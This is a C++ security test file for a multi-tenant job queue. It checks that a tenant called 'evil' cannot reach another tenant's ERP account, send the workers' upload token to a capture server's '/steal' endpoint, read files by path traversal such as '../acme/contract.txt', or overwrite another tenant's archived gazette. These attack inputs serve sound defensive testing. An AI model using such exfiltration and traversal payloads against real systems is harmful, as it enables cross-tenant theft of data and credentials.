// Findings 1 and 8 of the security review: a producer token of one tenant
// must not reach another tenant's ERP account, send the workers' upload
// token to a server of its choosing, or read or overwrite another tenant's
// files. Each test runs the real scheduler and workers and attacks them as
// tenant "evil" would.
#include <filesystem>
#include <fstream>
#include <thread>

#include "security_fixture.h"

namespace fila::test {
namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

class Tenancy : public SecurityTest {
 protected:
  void SetUp() override {
    SecurityTest::SetUp();
    evil_ = Token("evil", "producer");
    acme_ = Token("acme", "producer");
    dir_ = fs::temp_directory_path() / RandomName("tenancy_");
    fs::create_directories(dir_);
  }
  void TearDown() override {
    SecurityTest::TearDown();
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }
  void Bind(const std::string& tenant, const std::string& kind, const std::string& value) {
    auto r = Fila({"tenants", "bind", tenant, kind, value});
    ASSERT_EQ(r.ExitCode(), 0) << r.err;
  }
  std::string LastError(const std::string& id) {
    return db_->Scalar("SELECT coalesce(last_error, '') FROM tasks WHERE id = '" + id + "'");
  }

  std::string evil_, acme_;
  fs::path dir_;
};

std::string NfeTask(const std::string& account, const std::string& upload) {
  return R"({"type":"nfe.download","args":{"account":")" + account +
         R"(","period":"2026-10","page_size":50,"destination":"clientes","upload":")" + upload + R"("}})";
}

// Finding 1: evil named ACME's account and a capture server as the upload
// target; the worker PUT ACME's invoices there with its bearer token.
TEST_F(Tenancy, AnotherTenantsAccountAndAForeignUploadTargetAreRefused) {
  PythonServer omie("tests/fake_omie/fake_omie.py",
                    {"--account", "ACME:acme-key:acme-secret", "--account", "EVIL:evil-key:evil-secret",
                     "--invoices", "5"});
  PythonServer capture("tests/security/capture_server.py");
  Bind("acme", "omie_account", "ACME");
  Bind("evil", "omie_account", "EVIL");
  Bind("acme", "upload_target", omie.Url() + "/dav");
  fs::create_directories(dir_ / "nfe");
  // ACME's account with the attacker's target, then with no upload at all.
  auto stolen = Call("POST", "/v1/tasks", evil_, NfeTask("ACME", capture.Url() + "/steal"));
  EXPECT_EQ(stolen.status, 403) << stolen.body;
  EXPECT_EQ(JsonField(stolen.body, "field"), "payload.account") << stolen.body;
  auto read = Call("POST", "/v1/tasks", evil_, NfeTask("ACME", ""));
  EXPECT_EQ(read.status, 403) << read.body;
  // Its own account, but the workers' token to the attacker's server.
  auto token = Call("POST", "/v1/tasks", evil_, NfeTask("EVIL", capture.Url() + "/steal"));
  EXPECT_EQ(token.status, 403) << token.body;
  EXPECT_EQ(JsonField(token.body, "field"), "payload.upload") << token.body;
  // The batch route and the operator's CLI refuse it the same way.
  auto batch = Call("POST", "/v1/tasks:batch", evil_, R"({"tasks":[)" + NfeTask("ACME", "") + "]}");
  EXPECT_EQ(batch.status, 403) << batch.body;
  auto cli = Fila({"enqueue", "nfe.download", "--tenant", "evil", "--payload-json",
                   R"({"account":"ACME","period":"2026-10","destination":"x"})"});
  EXPECT_EQ(cli.ExitCode(), 2) << cli.out << cli.err;
  EXPECT_NE(cli.err.find("not bound"), std::string::npos) << cli.err;

  // A bound target receives the zip; the worker also checks bindings at run
  // time: a target unbound after the enqueue gets nothing.
  const std::string ok = Enqueue(acme_, NfeTask("ACME", omie.Url() + "/dav"));
  Bind("acme", "upload_target", capture.Url() + "/acme");
  std::this_thread::sleep_for(400ms);  // the scheduler's --tenant-cache-ms
  const std::string late = Enqueue(acme_, NfeTask("ACME", capture.Url() + "/acme"));
  ASSERT_EQ(Fila({"tenants", "unbind", "acme", "upload_target", capture.Url() + "/acme"}).ExitCode(), 0);
  // The worker starts now: had evil's tasks been accepted, it would run them.
  const std::string allow = "127.0.0.1:" + std::to_string(omie.Port()) + ",127.0.0.1:" +
                            std::to_string(capture.Port());
  Process& worker = StartWorker(
      {"--queues", "nfe", "--concurrency", "2"},
      {{"FILA_NFE_ROOT", (dir_ / "nfe").string()}, {"FILA_OMIE_API_URL", omie.Url() + "/api/v1"},
       {"FILA_OMIE_ACME_APP_KEY", "acme-key"}, {"FILA_OMIE_ACME_APP_SECRET", "acme-secret"},
       {"FILA_OMIE_EVIL_APP_KEY", "evil-key"}, {"FILA_OMIE_EVIL_APP_SECRET", "evil-secret"},
       {"FILA_NFE_UPLOAD_TOKEN", "upload-token-of-the-workers"}, {"FILA_EGRESS_ALLOW", allow}});
  ASSERT_TRUE(WaitTerminal(*db_, {ok, late}, 90s)) << worker.Stderr();
  // The first PUT of the fake WebDAV answers 503: the upload retries.
  EXPECT_EQ(State(ok), "succeeded") << LastError(ok) << worker.Stderr();
  EXPECT_EQ(State(late), "failed") << LastError(late);
  EXPECT_NE(LastError(late).find("not under an upload target bound to tenant 'acme'"), std::string::npos)
      << LastError(late);

  // Nothing reached the capture server: no token, no zip, no request at all.
  EXPECT_EQ(capture.Output().find("upload-token-of-the-workers"), std::string::npos) << capture.Output();
  EXPECT_EQ(capture.Output().find("\"method\""), std::string::npos) << capture.Output();
  // No row of ACME's invoices under evil, and evil has no files at all.
  EXPECT_EQ(db_->Count("SELECT count(*) FROM nfe_documents WHERE tenant = 'evil'"), 0);
  EXPECT_EQ(db_->Count("SELECT count(*) FROM nfe_documents WHERE tenant = 'acme' AND account = 'ACME'"), 5);
  EXPECT_FALSE(fs::exists(dir_ / "nfe" / "evil"));
  EXPECT_TRUE(fs::exists(dir_ / "nfe" / "acme" / "clientes"));
  // An account belongs to one tenant at most.
  auto twice = Fila({"tenants", "bind", "evil", "omie_account", "ACME"});
  EXPECT_EQ(twice.ExitCode(), 2) << twice.err;
  EXPECT_TRUE(worker.Running());
}

// Finding 8: every tenant's document.ingest paths resolve in its own folder.
TEST_F(Tenancy, DocumentPathsStayInTheTenantsFolder) {
  fs::create_directories(dir_ / "docs" / "acme");
  fs::create_directories(dir_ / "docs" / "evil");
  std::ofstream(dir_ / "docs" / "acme" / "contract.txt") << "ACME-CONFIDENTIAL-MARKER: the price is 42.\n";
  std::ofstream(dir_ / "docs" / "evil" / "own.txt") << "evil's own notes\n";
  Process& worker = StartWorker({"--queues", "document"}, {{"FILA_DOCUMENT_ROOT", (dir_ / "docs").string()}});
  auto doc = [](const std::string& path) {
    return R"({"type":"document.ingest","args":{"owner":"o","document_id":")" + path + R"(","path":")" + path +
           R"("}})";
  };
  const std::string own = Enqueue(evil_, doc("own.txt"));
  const std::string across = Enqueue(evil_, doc("acme/contract.txt"));
  const std::string up = Enqueue(evil_, doc("../acme/contract.txt"));
  const std::string acme_own = Enqueue(acme_, doc("contract.txt"));
  ASSERT_TRUE(WaitTerminal(*db_, {own, across, up, acme_own}, 60s)) << worker.Stderr();
  EXPECT_EQ(State(own), "succeeded") << LastError(own);
  EXPECT_EQ(State(acme_own), "succeeded") << LastError(acme_own);
  EXPECT_EQ(State(across), "failed");
  EXPECT_EQ(State(up), "failed");
  EXPECT_NE(LastError(across).find("no readable file"), std::string::npos) << LastError(across);
  // The answer names no folder of the worker.
  EXPECT_EQ(LastError(across).find(dir_.string()), std::string::npos) << LastError(across);
  EXPECT_EQ(db_->Count("SELECT count(*) FROM documents WHERE tenant = 'evil' "
                       "AND content LIKE '%ACME-CONFIDENTIAL-MARKER%'"),
            0);
}

// Finding 8: a tenant's gazette (a `url` may point at any PDF) never
// replaces another tenant's archived copy of the same day.
TEST_F(Tenancy, GazetteArchivesAreKeptPerTenant) {
  const std::string fixtures = SourceDir() + "/tests/fixtures";
  PythonServer tribunal("tests/fake_tribunal/fake_tribunal.py",
                        {"--root", fixtures, "--date", "2025-06-24=diarios/tjro_dj_20250624_pages48-72.pdf"});
  Process& worker = StartWorker(
      {"--queues", "diario"},
      {{"FILA_DIARIO_TJRO_URL", tribunal.Url() + "/diario/{yyyymmdd}.pdf"},
       {"FILA_DIARIO_ARCHIVE", (dir_ / "archive").string()}, {"FILA_DIARIO_MIN_INTERVAL_MS", "0"},
       {"FILA_EGRESS_ALLOW", "127.0.0.1:" + std::to_string(tribunal.Port())}});
  const std::string real = Enqueue(acme_, R"({"type":"diario.process","args":{"tribunal":"tjro","date":"2025-06-24"}})");
  ASSERT_TRUE(WaitTerminal(*db_, {real}, 90s)) << worker.Stderr();
  ASSERT_EQ(State(real), "succeeded") << LastError(real);
  const std::string fake = Enqueue(evil_, R"({"type":"diario.process","args":{"tribunal":"tjro","date":"2025-06-24","url":")" +
                                              tribunal.Url() + R"(/pdf/documents/scanned_no_text.pdf"}})");
  ASSERT_TRUE(WaitTerminal(*db_, {fake}, 90s)) << worker.Stderr();
  const fs::path acme_copy = dir_ / "archive" / "acme" / "tjro" / "2025" / "20250624.pdf";
  ASSERT_TRUE(fs::exists(acme_copy));
  EXPECT_EQ(fs::file_size(acme_copy), fs::file_size(fixtures + "/diarios/tjro_dj_20250624_pages48-72.pdf"));
  EXPECT_FALSE(fs::exists(dir_ / "archive" / "tjro"));
}

}  // namespace
}  // namespace fila::test
